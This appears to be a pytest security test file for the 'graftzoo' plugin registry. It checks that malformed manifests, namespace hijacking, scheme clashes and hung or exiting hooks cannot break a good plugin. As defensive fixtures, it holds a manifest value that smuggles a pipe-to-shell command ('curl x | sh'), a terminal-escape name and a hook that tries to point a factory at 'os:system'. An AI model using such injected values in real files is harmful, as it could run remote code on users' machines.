"""The registry survives any plugin: malformed manifests, clashing names and schemes, names taken
from another plugin's namespace, and hooks that hang, exit or return garbage (security issue #14).

Each attack installs a fake plugin next to a good one and checks that the good one still lists and
resolves, that the bad one is reported by name with what is wrong, and that nothing runs or hangs.
"""

from __future__ import annotations

import json
import time

import pytest
from graftzoo.errors import GraftzooError, NameCollisionError, PluginError
from graftzoo.registry.cli import main
from graftzoo.testing import FakePluginSite, arch_manifest

GOOD = arch_manifest("good", "alpha")
HEAD = '[plugin]\nnamespace = "{ns}"\napi_version = 1\n'
HUNG = "import time\ntime.sleep(30)\n"  # bounded, so an abandoned thread ends on its own


def _status(site: FakePluginSite) -> dict[str, tuple[str, str]]:
    return {r.name: (r.status, r.error or "") for r in site.registry().records}


# -- malformed manifests --------------------------------------------------------------------
MALFORMED = {
    "archs-not-a-list": ("archs = 5\n" + HEAD, "'archs'"),
    "plugin-not-a-table": ('plugin = "oops"\n', "'plugin'"),
    "namespace-not-a-string": ('[plugin]\nnamespace = 7\napi_version = 1\n', "'namespace'"),
    "defaults-not-a-table": ("defaults = 5\n" + HEAD, "'defaults'"),
    "suggest-not-a-table": ("suggest = 5\n" + HEAD, "'suggest'"),
    "names-not-a-list": (HEAD + '[[archs]]\nnames = "abc"\nfactory = "m:f"\n', "'names'"),
    "dynamic-not-a-list": (HEAD + 'hooks = "h"\ndynamic = "archs"\n', "'dynamic'"),
    "priority-not-an-integer": (HEAD + 'priority = "high"\n', "'priority'"),
    "api-version-bool": ('[plugin]\nnamespace = "bad"\napi_version = true\n', "api_version"),
    "cut-a-list": (HEAD + '[[archs]]\nname = "x"\nfactory = "m:f"\ncut = [1, 2]\n', "'cut'"),
    "input-size-two-items": (HEAD + '[[archs]]\nname = "x"\nfactory = "m:f"\ninput_size = [3, 224]\n', "'input_size'"),
    "tags-a-string": (HEAD + '[[archs]]\nname = "x"\nfactory = "m:f"\ntags = "cnn"\n', "'tags'"),
    "stats-a-number": (HEAD + '[[archs]]\nname = "x"\nfactory = "m:f"\nstats = 5\n', "stats"),
    "factory-a-number": (HEAD + '[[heads]]\nname = "h"\nfactory = 5\n', "'factory'"),
    "entry-not-a-table": (HEAD + 'heads = [1, 2]\n', "'heads'"),
    "commands-not-a-list": ("commands = 5\n" + HEAD, "'commands'"),
    "defaults-of-no-kind": (HEAD + '[defaults.colours]\nred = 1\n', "colours"),
    "suggest-shell-text": (HEAD + '[suggest]\ntorchvision = "evil; curl x | sh"\n', "suggest"),
    "name-with-terminal-escape": (HEAD + '[[archs]]\nname = "x\\u001b[2J"\nfactory = "m:f"\n', "name"),
    "unknown-plugin-key": (HEAD + 'colour = "red"\n', "colour"),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_manifest_fails_only_its_plugin(case: str, fake_plugin_site: FakePluginSite,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    manifest, culprit = MALFORMED[case]
    fake_plugin_site.add("good-dist", plugin="good", manifest=GOOD)
    fake_plugin_site.add("bad-dist", plugin="bad", manifest=manifest.replace("{ns}", "bad"))
    status = _status(fake_plugin_site)
    assert status["good"] == ("ok", "")
    assert status["bad"][0] == "failed" and culprit in status["bad"][1], status["bad"]
    assert main(["list"]) == 0
    assert [line.split()[0] for line in capsys.readouterr().out.splitlines()[1:]] == ["good/alpha"]
    assert main(["plugins", "--json"]) == 0
    records = {r["name"]: r for r in json.loads(capsys.readouterr().out)}
    assert records["bad"]["status"] == "failed" and records["good"]["status"] == "ok"


def test_manifest_error_is_a_graftzoo_error() -> None:
    from graftzoo.registry.manifest import ManifestError

    assert issubclass(ManifestError, GraftzooError)


# -- clashing names and schemes ---------------------------------------------------------------
def test_a_name_clash_lists_everything_else_and_reports_the_clash(
    fake_plugin_site: FakePluginSite, capsys: pytest.CaptureFixture[str]
) -> None:
    fake_plugin_site.add("first-dist", plugin="first", manifest=arch_manifest("shared", "clash", "only1"))
    fake_plugin_site.add("second-dist", plugin="second", manifest=arch_manifest("shared", "clash"))
    fake_plugin_site.add("good-dist", plugin="good", manifest=GOOD)
    fake_plugin_site.registry()
    assert main(["list"]) == 0
    out, err = capsys.readouterr()
    assert [line.split()[0] for line in out.splitlines()[1:]] == ["good/alpha", "shared/only1"]
    assert "shared/clash" in err and "first-dist" in err and "second-dist" in err
    assert main(["list", "--json"]) == 0
    assert [d["name"] for d in json.loads(capsys.readouterr().out)] == ["good/alpha", "shared/only1"]
    assert main(["info", "shared/clash"]) == 2
    assert "first-dist" in capsys.readouterr().err


def test_a_name_in_another_plugins_namespace_is_refused(fake_plugin_site: FakePluginSite) -> None:
    vision = '[plugin]\nnamespace = "vision"\napi_version = 1\n[[heads]]\nname = "classify"\nfactory = "real:head"\n'
    evil = HEAD.format(ns="evil") + '[[heads]]\nname = "vision/classify"\nfactory = "evil:head"\n[[archs]]\nname = "timm/resnet18"\nfactory = "evil:net"\n'
    fake_plugin_site.add("graftzoo-vision", plugin="vision", manifest=vision, package="fake_vision")
    fake_plugin_site.add("evil-dist", plugin="evil", manifest=evil)
    registry = fake_plugin_site.registry()
    assert registry.get_head("vision/classify").factory == "real:head"
    assert registry.names("archs") == []
    evil_record = next(r for r in registry.records if r.name == "evil")
    assert evil_record.status == "failed" and "outside this plugin's namespace 'evil'" in (evil_record.error or "")


def test_a_hook_cannot_list_names_in_another_namespace(fake_plugin_site: FakePluginSite) -> None:
    hooks = ("from graftzoo.registry.hookspecs import hookimpl\n\n@hookimpl\ndef graftzoo_archs():\n"
             "    return [{'name': 'good/alpha', 'factory': 'evil:net'}]\n")
    manifest = HEAD.format(ns="sneak") + 'hooks = "sneak_dist.hooks"\ndynamic = ["archs"]\n'
    fake_plugin_site.add("good-dist", plugin="good", manifest=GOOD)
    fake_plugin_site.add("sneak-dist", plugin="sneak", manifest=manifest, modules={"hooks.py": hooks})
    registry = fake_plugin_site.registry()
    assert registry.get_arch("alpha").plugin == "good"
    assert _failed(registry, "sneak", "outside this plugin's namespace")


CORE = '''[plugin]
namespace = "core"
api_version = 1
[[weights]]
name = "file"
scheme = "file"
factory = "graftzoo.weights:FileWeights"
[[hubs]]
name = "hf"
scheme = "hf"
factory = "graftzoo.hub.hf:HfHub"
'''


@pytest.mark.parametrize("kind,scheme", [("weights", "file"), ("hubs", "hf")])
def test_a_scheme_clash_is_reported_not_won_by_sort_order(
    kind: str, scheme: str, fake_plugin_site: FakePluginSite, capsys: pytest.CaptureFixture[str]
) -> None:
    fake_plugin_site.add("core-dist", plugin="core", manifest=CORE)
    thief = HEAD.format(ns="aaa") + f'[[{kind}]]\nname = "grab"\nscheme = "{scheme}"\nfactory = "aaa_dist.evil:Source"\n'
    fake_plugin_site.add("aaa-dist", plugin="aaa", manifest=thief)  # sorts before core
    registry = fake_plugin_site.registry()
    with pytest.raises(NameCollisionError) as info:
        registry.by_scheme(kind, scheme)
    assert "aaa-dist" in str(info.value) and "core-dist" in str(info.value)
    assert registry.scheme_collisions(kind) == {scheme: ["aaa-dist", "core-dist"]}
    assert main(["list", "--kind", kind]) == 0
    assert f"scheme '{scheme}:'" in capsys.readouterr().err


def test_a_shared_namespace_is_reported_and_cannot_raise_its_rank(fake_plugin_site: FakePluginSite) -> None:
    fake_plugin_site.add("tv", plugin="torchvision", manifest=arch_manifest("torchvision", "resnet18", priority=20))
    fake_plugin_site.add("tm", plugin="timm", manifest=arch_manifest("timm", "resnet18", priority=10))
    squat = arch_manifest("timm", "extra", priority=1000).replace('name = "timm"', 'name = "squat"')
    fake_plugin_site.add("squat-dist", plugin="squat", manifest=squat)
    registry = fake_plugin_site.registry()
    assert registry.get("archs", "resnet18").name == "torchvision/resnet18"
    assert any("namespace 'timm'" in p and "squat-dist" in p for p in registry.problems())


# -- hooks that hang, exit or lie -------------------------------------------------------------
def _dynamic(site: FakePluginSite, name: str, hooks: str) -> None:
    manifest = HEAD.format(ns=name) + f'hooks = "{name}_dist.hooks"\ndynamic = ["archs"]\n'
    site.add(f"{name}-dist", plugin=name, manifest=manifest, modules={"hooks.py": hooks})


def _failed(registry: object, plugin: str, words: str) -> bool:
    record = next(r for r in registry.records if r.name == plugin)  # type: ignore[attr-defined]
    return record.status == "failed" and words in (record.error or "")


LISTING = "from graftzoo.registry.hookspecs import hookimpl\n\n@hookimpl\ndef graftzoo_archs():\n    {body}\n"
HOSTILE_HOOKS = {
    "hangs-at-import": (HUNG + LISTING.format(body="return []"), "did not return within"),
    "hangs-in-listing": (LISTING.format(body="import time; time.sleep(30)"), "did not return within"),
    "exits-at-import": ("raise SystemExit(3)\n", "SystemExit"),
    "exits-in-listing": (LISTING.format(body="raise SystemExit(3)"), "SystemExit"),
    "interrupts-in-listing": (LISTING.format(body="raise KeyboardInterrupt"), "KeyboardInterrupt"),
    "returns-a-string": (LISTING.format(body="return 'abc'"), "result"),
    "returns-non-tables": (LISTING.format(body="return [1, 2]"), "result"),
    "misspelt-hook": ("from graftzoo.registry.hookspecs import hookimpl\n\n@hookimpl\ndef graftzoo_arch():\n    return []\n",
                      "graftzoo_arch"),
    "unknown-hook-argument": ("from graftzoo.registry.hookspecs import hookimpl\n\n@hookimpl\ndef graftzoo_archs(secret):\n    return []\n",
                              "secret"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_HOOKS))
def test_a_hostile_hook_is_bounded_isolated_and_reported(
    case: str, fake_plugin_site: FakePluginSite, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    hooks, words = HOSTILE_HOOKS[case]
    monkeypatch.setenv("GRAFTZOO_HOOK_TIMEOUT", "0.5")
    name = case.replace("-", "")  # a package name per case: an abandoned import keeps its module's lock
    fake_plugin_site.add("good-dist", plugin="good", manifest=GOOD)
    _dynamic(fake_plugin_site, name, hooks)
    registry = fake_plugin_site.registry()
    start = time.monotonic()
    assert main(["list"]) == 0  # the process is still here: no SystemExit escaped
    assert time.monotonic() - start < 10
    assert [line.split()[0] for line in capsys.readouterr().out.splitlines()[1:]] == ["good/alpha"]
    assert _failed(registry, name, words), [r.error for r in registry.records]
    assert registry.get_arch("alpha").name == "good/alpha"


def test_strict_mode_raises_for_a_hung_hook(fake_plugin_site: FakePluginSite, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GRAFTZOO_HOOK_TIMEOUT", "0.5")
    monkeypatch.setenv("GRAFTZOO_STRICT_PLUGINS", "1")
    _dynamic(fake_plugin_site, "stuck", LISTING.format(body="import time; time.sleep(30)"))
    with pytest.raises(PluginError, match="did not return within"):
        fake_plugin_site.registry().names("archs")


DESCRIBE = "from graftzoo.registry.hookspecs import hookimpl\n\n@hookimpl\ndef graftzoo_describe_arch(name):\n    {body}\n"


def test_a_hung_describe_hook_fails_its_plugin_once(fake_plugin_site: FakePluginSite, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GRAFTZOO_HOOK_TIMEOUT", "0.5")
    manifest = arch_manifest("slow", "net").replace("api_version = 1", 'api_version = 1\nhooks = "slow_dist.hooks"')
    fake_plugin_site.add("slow-dist", plugin="slow", manifest=manifest, modules={"hooks.py": DESCRIBE.format(body="import time; time.sleep(30)")})
    registry = fake_plugin_site.registry()
    start = time.monotonic()
    assert registry.get_arch("slow/net").num_features is None  # what load_head asks first
    assert _failed(registry, "slow", "did not return within")
    assert time.monotonic() - start < 10


def test_a_describe_hook_cannot_rewrite_what_an_arch_builds(fake_plugin_site: FakePluginSite) -> None:
    body = "return {'num_features': 7, 'factory': 'os:system', 'name': 'other/x'}"
    manifest = arch_manifest("odd", "net").replace("api_version = 1", 'api_version = 1\nhooks = "odd_dist.hooks"')
    fake_plugin_site.add("odd-dist", plugin="odd", manifest=manifest, modules={"hooks.py": DESCRIBE.format(body=body)})
    spec = fake_plugin_site.registry().get_arch("odd/net")
    assert (spec.name, spec.factory, spec.num_features) == ("odd/net", "torchvision.models:resnet18", 7)


def test_a_describe_hook_with_a_wrongly_typed_detail_is_ignored(fake_plugin_site: FakePluginSite) -> None:
    manifest = arch_manifest("odd", "net").replace("api_version = 1", 'api_version = 1\nhooks = "odd_dist.hooks"')
    fake_plugin_site.add("odd-dist", plugin="odd", manifest=manifest,
                         modules={"hooks.py": DESCRIBE.format(body="return {'num_features': 'many'}")})
    registry = fake_plugin_site.registry()
    assert registry.get_arch("odd/net").num_features is None
    assert registry.cache.get("describe", "odd/net") is None


# -- what a manifest may name ------------------------------------------------------------------
def test_a_manifest_cannot_name_a_hooks_module_outside_its_package(fake_plugin_site: FakePluginSite) -> None:
    import sys

    manifest = HEAD.format(ns="borrow") + 'hooks = "this"\ndynamic = ["archs"]\n'  # `import this` prints the Zen
    fake_plugin_site.add("good-dist", plugin="good", manifest=GOOD)
    fake_plugin_site.add("borrow-dist", plugin="borrow", manifest=manifest)
    registry = fake_plugin_site.registry()
    assert registry.names("archs") == ["good/alpha"]
    assert _failed(registry, "borrow", "outside the plugin's package 'borrow_dist'")
    assert "this" not in sys.modules


def test_an_oversized_manifest_is_refused_unread(fake_plugin_site: FakePluginSite) -> None:
    from graftzoo.registry.discovery import MAX_MANIFEST_BYTES

    padding = "# " + "x" * 1000 + "\n"
    huge = arch_manifest("huge", "net") + padding * (MAX_MANIFEST_BYTES // len(padding) + 1)
    fake_plugin_site.add("huge-dist", plugin="huge", manifest=huge)
    fake_plugin_site.add("good-dist", plugin="good", manifest=GOOD)
    registry = fake_plugin_site.registry()
    assert registry.names("archs") == ["good/alpha"]
    assert _failed(registry, "huge", "larger than")


def test_a_damaged_manifest_cache_is_parsed_again(fake_plugin_site: FakePluginSite, graftzoo_home) -> None:
    fake_plugin_site.add("good-dist", plugin="good", manifest=arch_manifest("good", "alpha", priority=3))
    fake_plugin_site.registry()
    cached = list((graftzoo_home / "registry").glob("manifest-*.json"))
    assert len(cached) == 1
    data = json.loads(cached[0].read_text())
    cached[0].write_text(json.dumps({**data, "priority": "high", "entries": {"archs": [{"name": 5}]}}))
    registry = fake_plugin_site.registry()
    assert registry.names("archs") == ["good/alpha"] and registry.priorities == {"good": 3}
